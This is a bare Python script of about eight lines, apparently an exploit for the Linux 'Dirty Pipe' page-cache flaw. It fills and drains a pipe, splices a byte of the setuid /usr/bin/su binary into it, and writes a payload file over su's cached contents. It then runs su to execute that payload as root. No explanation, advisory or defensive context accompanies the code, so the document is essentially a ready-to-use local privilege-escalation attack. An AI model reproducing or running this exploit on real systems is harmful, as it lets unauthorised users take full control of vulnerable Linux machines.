import os
fd = os.open("/usr/bin/su", os.O_RDONLY)
r, w = os.pipe()
for _ in range(16): os.write(w, b"A" * 4096)
for _ in range(16): os.read(r, 4096)
os.splice(fd, w, 1, offset_src=0)
os.write(w, open("elf.bin", "rb").read())
os.system("/usr/bin/su")
